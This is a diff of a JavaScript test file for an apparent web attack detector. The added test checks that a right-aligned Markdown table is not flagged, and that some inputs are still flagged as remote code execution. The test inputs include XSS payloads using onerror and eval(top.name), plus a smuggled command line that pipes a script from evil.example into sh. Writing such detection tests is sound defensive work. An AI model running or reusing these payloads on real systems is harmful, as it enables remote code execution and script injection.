@@ -3061,3 +3061,12 @@ t.test('thirty-sixth round, third review: run in Mako, EJS, MariaDB, SQLite, Pos
   t.ok(detector.detect({ ...base, query: 'q=%3Cimg%20id%3Du0022%20src%3Dx%20onerror%3D%22return%20false%u0022%2F(0%2Ceval)(top.name)%2F%2F%22%3E' }).includes('xss'), '%u0022 in a query')
   t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from('comment=<img src=x onerror="return false%22/(0,eval)(top.name)//">%zz') }).includes('xss'), 'a stray % in a form')
 })
+
+t.test("thirty-sixth round, end: the thirty-first part's false positives — a Markdown table aligned with one dash", async (t) => {
+  // GFM's delimiter cell needs one dash (`| -: |`); a table's `| Id |` is a cell, no pipe into `id`
+  const doc = '## Transfers\n\nThis example debits one account.\n\n| Id | Debit Account | Credit Account | Amount | Flags |\n| -: | ------------: | -------------: | -----: | ----: |\n|  1 |   Destination |         Source |    123 | [`linked`](../../reference/transfer.md#flagslinked) |\n'
+  t.same(json({ body: doc }), [], 'a table aligned right with one dash')
+  t.same(q(doc, 'body'), [], 'in a query')
+  // a list item is no delimiter row, and a row still holds no command line outside a table
+  for (const v of ['## Notes\n\n- | id\n', '## Notes\n\n| -: |\nx; curl -s http://evil.example/x.sh | sh\n']) t.ok(json({ body: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
+})
